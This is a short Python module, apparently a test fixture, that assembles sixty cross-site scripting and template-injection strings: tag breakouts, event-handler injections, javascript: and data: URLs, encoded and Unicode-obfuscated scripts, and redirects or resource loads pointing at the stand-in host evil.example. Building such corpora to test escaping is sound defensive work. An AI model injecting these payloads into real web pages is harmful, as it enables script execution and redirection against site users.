"""Sixty strings that a careless page would run, for every text that an alert can carry."""

from __future__ import annotations

_SCRIPTS = ("alert(1)", "window.pwned=1", "top.pwned=1")
_TAGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<details open ontoggle={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<!--><script>{}</script>-->",
    '" autofocus onfocus="{}" x="',
    "' onmouseover='{}' x='",
    "javascript:{}",
)
_OTHERS = (
    "{{{{ 7 * 7 }}}}pwned-{{{{config}}}}",
    "{% for x in () %}{% endfor %}${7*7}",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<object data=//evil.example></object>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>",
)
CORPUS = tuple(tag.format(script) for tag in _TAGS for script in _SCRIPTS) + _OTHERS
